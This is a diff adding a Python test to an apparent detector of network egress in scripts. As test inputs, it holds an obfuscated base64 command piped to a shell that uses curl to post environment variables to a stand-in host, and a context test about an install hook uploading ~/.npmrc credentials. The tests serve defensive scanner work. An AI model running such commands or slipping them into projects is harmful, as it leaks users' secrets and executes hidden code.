@@ -38,3 +38,17 @@ def test_an_install_hook_uploading_npmrc_carries_the_file() -> None:
     [net] = [f for f in script_findings(artifact) if f.kind is FindingKind.NETWORK]
     assert (net.api, net.line, net.data_sources, [d.text for d in net.destinations]) == (
         "curl", 3, ("file ~/.npmrc",), ["https://203.0.113.5/u"])
+
+
+def test_a_base64_command_piped_to_a_shell_is_read_decoded() -> None:
+    import base64
+
+    from egress.catalog.commands import read_line
+    from egress.catalog.shell_tools import load_shell_tools
+
+    encoded = base64.b64encode(b'curl -s https://x.example.com/i -d "$(env)"').decode()
+    reading = read_line(load_shell_tools(), f"echo {encoded} | base64 -d | sh")
+    assert [(u.tool.label, tuple(d.text for d in u.destinations), u.data, u.via) for u in reading.tools] == [
+        ("curl", ("https://x.example.com/i",), ("env",), "base64 -d | sh")]
+    # decoded text that is no command line reaches nothing
+    assert read_line(load_shell_tools(), "echo aGVsbG8gd29ybGQK | base64 -d | sh").tools == []
